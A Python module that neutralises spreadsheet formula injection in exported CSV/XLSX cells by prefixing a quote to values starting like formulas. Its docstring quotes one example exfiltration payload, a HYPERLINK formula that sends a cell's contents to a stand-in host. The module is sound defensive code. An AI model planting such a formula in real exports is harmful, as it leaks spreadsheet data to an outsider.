"""One neutraliser for every string cell of every CSV or XLSX file the project writes (NGO result files, /export,
`lurecheck classify`): a cell that a spreadsheet would run as a formula gets a leading single quote (OWASP, "CSV
injection"). A job ad, a sender's name or a channel's title is attacker-controlled; `=HYPERLINK("http://x/?"&A1,"x")`
must come back as text, not as a live link that sends the sheet's cells away."""
from __future__ import annotations

from typing import Any

# A leading = + - @ starts a formula in Excel, LibreOffice and Google Sheets; a leading tab or carriage return lets one
# hide behind it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The value itself, unless it is a string that starts like a formula: then the same string after a single
    quote. Numbers, booleans and None are left as they are (a number is never run)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values) -> list:
    return [neutralise(v) for v in values]
